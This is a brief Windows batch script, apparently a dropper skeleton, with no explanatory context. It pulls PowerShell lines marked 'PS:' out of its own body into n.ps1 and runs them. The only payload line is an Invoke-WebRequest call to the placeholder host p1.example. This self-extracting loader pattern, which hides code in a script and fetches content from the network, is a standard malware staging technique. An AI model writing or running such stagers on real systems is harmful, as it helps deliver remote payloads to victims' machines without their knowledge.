@echo off
findstr /b ":::" "%~f0" > x.txt
for /f "usebackq tokens=1* delims=:" %%a in ("%~f0") do if "%%a"=="PS" echo %%b>> n.ps1
powershell -file n.ps1
exit /b
PS:iwr http://p1.example/n
